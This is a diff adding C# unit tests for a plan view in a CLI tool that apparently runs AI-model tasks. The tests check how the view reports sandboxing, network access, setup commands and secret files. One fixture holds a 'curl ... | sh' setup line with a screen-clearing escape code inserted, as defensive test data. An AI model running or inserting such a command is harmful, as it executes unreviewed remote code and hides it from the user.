@@ -3,8 +3,10 @@ using Planlane.Cli.Views;
 using Planlane.Planning;
 using Planlane.Requests;
 using Planlane.Runs;
+using Planlane.Sandbox;
 using Planlane.Support;
 using Planlane.Values;
+using Planlane.Workspaces;
 
 namespace Planlane.Views;
 
@@ -58,6 +60,30 @@ public sealed class PlanViewTests
         var estimate = SinglePlan.EstimateOf(plan, SinglePlan.SizeOf(request, settings, new(2026, 11, 2)));
 
         Snapshot.Match(Screens.Fancy(screen => PlanView.Write(screen, SampleRun.Started(settings, request).Then(new PlanGiven(plan, estimate)).State)));
+    }
+
+    [Theory]
+    [InlineData(SandboxKind.Bubblewrap, NetworkAccess.None, true, "Commands: bubblewrap, no network.")]
+    [InlineData(SandboxKind.Landlock, NetworkAccess.Hosts, true, "Commands: Landlock, no network but registry.npmjs.org, *.example.org.")]
+    [InlineData(SandboxKind.Seatbelt, NetworkAccess.Open, true, "Commands: sandbox-exec, the whole network.")]
+    [InlineData(SandboxKind.JobObject, NetworkAccess.None, true, "Commands: a Windows job object: processes and memory are held, files and network are not.")]
+    [InlineData(SandboxKind.None, NetworkAccess.None, true, "Commands: no sandbox, as this machine has none; they run with your rights: your files and your network.")]
+    [InlineData(SandboxKind.Bubblewrap, NetworkAccess.None, false, "Commands: no sandbox, as you wanted; they run with your rights: your files and your network.")]
+    public void PlanView_Commands_SaysInOneLineWhatHoldsThem(SandboxKind kind, NetworkAccess network, bool isSandboxed, string line)
+    {
+        var policy = new WorkspacePolicy { Network = network, IsSandboxed = isSandboxed, Hosts = network is NetworkAccess.Hosts ? ["registry.npmjs.org", "*.example.org"] : [] };
+        var state = SampleRun.Started(new RunSettings(SampleRun.Sonnet, SampleRun.Haiku) { Workspace = policy }).Planned(AuthRun.Plan).State;
+
+        Assert.Contains(line, Screens.Plain(screen => PlanView.Write(screen, state, new SandboxFacts(kind)), width: 160).Split('\n').Select(text => text.Trim()));
+    }
+
+    [Fact]
+    public void PlanView_SetupVariablesAndSecrets_AreListedBeforeTheYes()
+    {
+        var policy = new WorkspacePolicy { Setup = ["npm ci", "curl \u001b[2Jhttps://example.org/x | sh"], Environment = [new("NODE_ENV", "test")], Include = [".env.test", "certs/*.pem"] };
+        var state = SampleRun.Started(new RunSettings(SampleRun.Sonnet, SampleRun.Haiku) { Workspace = policy }).Planned(AuthRun.Plan).State;
+
+        Snapshot.Match(Screens.Fancy(screen => PlanView.Write(screen, state, new SandboxFacts(SandboxKind.Bubblewrap))));
     }
 
     private static RunState Proven(RunMode mode)
